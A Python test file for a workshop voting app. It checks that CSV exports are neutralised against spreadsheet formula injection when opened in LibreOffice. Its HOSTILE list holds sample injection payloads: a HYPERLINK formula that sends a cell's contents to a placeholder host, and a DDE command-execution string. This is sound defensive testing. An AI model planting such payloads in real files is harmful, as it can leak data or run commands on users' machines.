"""Every CSV the app writes is safe to open in a spreadsheet (issue 21: a HYPERLINK in an
idea became a live link in LibreOffice, and the tie mark "=3" became the number 3).
The CSV is opened in LibreOffice, as a user would, and its cells read back."""

from __future__ import annotations

import datetime as dt
import subprocess
from pathlib import Path

import openpyxl
import pytest

from tests.libreoffice import LibreOffice
from workshop_app.cli import main
from workshop_app.db.database import open_database
from workshop_app.models import CastBy, VoteMethod
from workshop_app.services.attendees import AttendeeDraft, add_attendee
from workshop_app.services.csv_safe import csv_text, neutralised
from workshop_app.services.ideas import IdeaDraft, add_idea
from workshop_app.services.vote_counting import Mark
from workshop_app.services.voting import RoundDraft, cast_ballot, create_round, open_round
from workshop_app.services.workshops import create_workshop, list_issues, list_sectors

NOON = dt.datetime(2026, 3, 12, 5, 0, tzinfo=dt.UTC)
# What people type on a card, innocently or not. The first would show the board's other
# cells as a link in LibreOffice if it were read as a formula.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&B3;"ดูรายละเอียด")',
    "+66 81 234 5678 สายด่วนศูนย์ดำรงธรรม",
    "-ลดการเผาในที่โล่ง ร้อยละ 20",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 แท็บนำหน้า",
    "\r=2+2 ขึ้นบรรทัดนำหน้า",
]


def test_cells_that_a_spreadsheet_would_run_get_a_quote() -> None:
    assert [neutralised(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert neutralised("ส่งเสริมเกษตรอินทรีย์") == "ส่งเสริมเกษตรอินทรีย์"
    assert neutralised(12.5) == "12.5"
    assert csv_text([['a"b', 3, "=x"]]) == '"a""b",3,"\'=x"\r\n'


@pytest.fixture
def results_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    """`results --format csv` of a round whose ideas are HOSTILE, two of them tied."""
    path = tmp_path / "ลำดับโครงการ.sqlite"
    database = open_database(path)
    with database.transaction() as session:
        workshop_id = create_workshop(session, "ประชุมจัดลำดับโครงการ จังหวัดกาฬสินธุ์")
        sector = list_sectors(session, workshop_id)[0].id
        issue = list_issues(session, workshop_id)[0].id
        ideas = [add_idea(session, workshop_id, issue, IdeaDraft(text)) for text in HOSTILE]
        voters = [
            add_attendee(
                session,
                workshop_id,
                AttendeeDraft(first_name=first, last_name="ภูผาใจ", sector_id=sector),
                checked_in_at=NOON,
            )
            for first in ("สุนทร", "ละมัย", "คำปุน")
        ]
        round_id = create_round(
            session,
            workshop_id,
            RoundDraft("จัดลำดับความคิด", VoteMethod.DOTS.value, tuple(ideas), cap_per_idea=3),
        )
        open_round(session, round_id)
        # Idea 0: 3 dots; ideas 1 and 2: 2 each (tied second); the rest fewer.
        marks = [
            [Mark(ideas[0], 2), Mark(ideas[1], 1), Mark(ideas[2], 1), Mark(ideas[3], 1)],
            [Mark(ideas[0], 1), Mark(ideas[1], 1), Mark(ideas[2], 1)],
            [Mark(ideas[4], 1)],
        ]
        for voter, ballot in zip(voters, marks, strict=True):
            cast_ballot(session, round_id, voter, ballot, CastBy.STAFF.value)
    database.close()
    capsys.readouterr()
    assert main(["results", "--db", str(path), "--workshop", workshop_id, "--format", "csv"]) == 0
    out = tmp_path / "ผลการลงคะแนน.csv"
    out.write_text(capsys.readouterr().out, encoding="utf-8")
    return out


def test_the_results_csv_opened_in_libreoffice_runs_no_formula(
    results_csv: Path, tmp_path: Path
) -> None:
    office = LibreOffice(tmp_path)
    outdir = tmp_path / "converted"
    # UTF-8 (76), comma-separated, quoted fields; "evaluate formulas" is on by default.
    done = subprocess.run(
        office.command(
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(outdir),
            str(results_csv),
        ),
        capture_output=True,
        text=True,
        timeout=240,
        env=office.env,
        check=False,
    )
    converted = outdir / f"{results_csv.stem}.xlsx"
    assert done.returncode == 0 and converted.is_file(), done.stderr
    sheet = openpyxl.load_workbook(converted).active
    assert sheet is not None
    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]
    ideas = [str(row[5].value) for row in rows[1:]]
    # Each idea shows as stored (the app trims leading blanks), after the quote that
    # kept it text.
    assert sorted(ideas) == sorted("'" + text.strip() for text in HOSTILE)
    ranks = [row[0].value for row in rows[1:]]
    assert ranks[0] == 1 and ranks.count("2=") == 2
    scores = [row[1].value for row in rows[1:]]
    assert scores[:3] == [3, 2, 2]
